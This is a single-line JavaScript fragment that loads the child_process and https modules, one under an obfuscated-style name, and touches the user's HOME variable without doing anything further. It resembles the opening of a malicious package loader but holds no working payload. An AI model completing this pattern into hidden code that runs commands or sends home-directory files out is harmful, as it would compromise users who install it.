const _0x1 = require('child_process'); const h = require('https'); process.env.HOME;
